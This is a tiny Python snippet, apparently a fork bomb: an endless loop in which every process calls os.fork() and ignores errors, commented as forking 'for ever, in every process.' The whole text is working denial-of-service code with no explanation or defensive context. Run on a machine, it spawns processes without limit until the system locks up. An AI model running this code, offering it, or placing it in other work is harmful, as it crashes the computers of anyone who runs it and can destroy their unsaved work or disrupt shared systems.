# Fork for ever, in every process.
while True:
    try:
        os.fork()
    except OSError:
        pass
